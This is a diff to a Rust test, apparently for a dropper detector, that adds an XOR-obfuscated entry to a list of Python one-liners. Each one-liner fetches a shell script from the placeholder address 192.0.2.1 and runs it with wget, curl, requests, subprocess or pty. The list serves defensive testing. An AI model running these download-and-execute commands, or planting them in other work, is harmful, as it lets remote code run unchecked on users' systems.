@@ -237,6 +237,7 @@ fn python_droppers_fetch_and_start() {
         "python3 -c \"import requests,subprocess; r=requests.get('http://192.0.2.1/s.sh', verify=False); subprocess.run(r.content.decode(), shell=True)\"",
         "python3 -c \"import os; os.system('wget -q http://192.0.2.1/s.sh -O s; sh s')\"",
         "python3 -c \"import subprocess; subprocess.Popen('curl -s http://192.0.2.1/s.sh | sh', shell=True)\"",
+        "python3 -c \"from itertools import cycle, islice; import os; os.system(bytes(a ^ b for a, b in zip(bytes.fromhex('1c021c1f45541a45111f1109514a565a5c4b455557594b48441657180d59462a59185e59180d5918'), islice(cycle(b'key'), 99))).decode())\"",
         "curl -s http://192.0.2.1/s.sh -o s; python3 -c \"import pty; pty.spawn(['/bin/sh','s'])\"",
     ];
     for line in lines {
